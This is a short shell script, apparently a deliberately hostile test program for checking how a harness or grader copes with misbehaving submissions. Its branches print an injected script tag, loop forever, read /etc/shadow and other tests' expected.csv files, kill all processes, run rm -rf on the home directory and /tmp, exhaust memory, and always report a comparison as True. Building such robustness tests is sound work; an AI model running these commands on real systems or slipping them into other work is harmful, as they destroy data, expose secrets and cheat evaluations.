#!/bin/sh
# Hostile: every command misbehaves in its own way.
case "$1" in
    print) yes "$(printf '\033[2J</pre><script>alert(1)</script>')" ;;
    done) while :; do :; done ;;
    availableMoves) cat /etc/shadow "$HOME"/* ../*/* ../../*/*/expected.csv >/dev/null 2>&1; echo '(2, up)' ;;
    applyMove | applyMoves) kill -9 "$PPID"; kill -9 -1; kill -9 $$ ;;
    compare) echo True ;;
    norm) rm -rf ./* /tmp/* "$HOME" 2>/dev/null; printf '3,1,\n1, 2,-1,\n' ;;
    random) python3 -c 'x = [b"x" * 10000000 for _ in range(1000)]; x = [a + b"y" for a in x]' ;;
esac
